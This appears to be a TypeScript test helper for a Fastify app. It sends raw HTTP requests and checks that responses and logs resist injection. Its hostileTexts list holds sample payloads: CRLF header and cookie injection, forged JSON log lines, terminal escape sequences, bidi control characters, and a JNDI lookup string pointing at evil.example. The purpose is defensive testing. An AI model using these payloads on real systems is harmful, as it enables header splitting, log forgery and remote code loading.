import { once } from 'node:events'
import { Writable } from 'node:stream'
import type { FastifyInstance } from 'fastify'
import { buildApp } from '../../src/app.ts'
import { openLog } from '../../src/outside/log.ts'
import type { Tenant } from '../tenant.ts'
import { rawSocket } from './socket.ts'

/** What would end a line or a header, or be obeyed by a terminal or by whoever reads the log. */
export const hostileTexts: readonly string[] = [
  'a\r\nX-Evil: 1',
  'a\nX-Evil: 1',
  'a\rX-Evil: 1',
  'a\r\n Set-Cookie: evil=1',
  'a\r\n\r\n<html>',
  '"}\n{"level":60,"msg":"request","evil":1}',
  '{"level":30,"msg":"request"}',
  '\u001b[2J\u001b[31mred\u0007',
  '\u001b]0;title\u0007',
  '\u009b31m\u0085next',
  'a\u2028X-Evil: 1\u2029b',
  '\u202eevil\u202c\u2066\ufeff',
  // Whose last bytes are CR and LF, to whoever cuts characters to bytes.
  '\u560d\u560aX-Evil: 1',
  '%0d%0aX-Evil:%201',
  'a\u000bb\u000cc\bd\u007fe',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as text
  '%s%d%j${jndi:ldap://evil.example/a}',
]

export interface Served {
  app: FastifyInstance
  address: { host: string; port: number }
  url: string
  logged: () => string
}
export async function aLoggedServer(t: Tenant): Promise<Served> {
  let text = ''
  const log = openLog(
    'trace',
    new Writable({
      write(chunk, _encoding, done) {
        text += chunk
        done()
      },
    }),
  )
  const app = await buildApp({ ...t.deps, log, endings: [] })
  await app.listen({ port: 0, host: '127.0.0.1' })
  const { port } = app.server.address() as { port: number }
  const address = { host: '127.0.0.1', port }
  return { app, address, url: `http://127.0.0.1:${port}`, logged: () => text }
}

export interface Answered {
  status: number
  /** In small letters, each with all that was sent of it. */
  headers: ReadonlyMap<string, readonly string[]>
}
/** Every answer of a connection on which these bytes were sent, as whoever splits answers would read it. */
export async function answersTo({ address }: Served, bytes: string): Promise<Answered[]> {
  const { socket, seen } = await rawSocket(address)
  const closed = once(socket, 'close')
  // Headers are bytes: what is no ASCII goes out as UTF-8.
  socket.write(Buffer.from(bytes))
  await closed
  return seen.answer
    .split(/(?=HTTP\/1\.1 \d{3} )/)
    .filter(Boolean)
    .map(answered)
}
function answered(text: string): Answered {
  const [line = '', ...lines] = text.split('\r\n\r\n')[0]!.split(/\r\n|\r|\n/)
  const headers = new Map<string, string[]>()
  for (const each of lines) {
    const [name = '', ...value] = each.split(':')
    const known = headers.get(name.toLowerCase()) ?? []
    headers.set(name.toLowerCase(), [...known, value.join(':').trim()])
  }
  return { status: Number(line.split(' ')[1]), headers }
}

/** A request as it goes over the wire, whose headers nobody looked at. */
export const bytesOf = (path: string, headers: Readonly<Record<string, string>>, method = 'GET') => {
  const given = Object.entries({ Host: 'muster.test', Connection: 'close', ...headers })
  return `${method} ${path} HTTP/1.1\r\n${given.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`
}

interface Entry {
  msg: string
  reqId?: string
}
const unprinted = /[^\P{C}\n]|[\u2028\u2029]/u
/** What the log holds, or which of its lines is none, or would be obeyed by a terminal. */
export function entriesOf(logged: string): { entries: Entry[]; odd: string[] } {
  const entries: Entry[] = []
  const odd: string[] = []
  for (const line of logged.split('\n').slice(0, -1)) {
    try {
      entries.push(JSON.parse(line) as Entry)
      if (unprinted.test(line)) odd.push(line)
    } catch {
      odd.push(line)
    }
  }
  return { entries, odd }
}
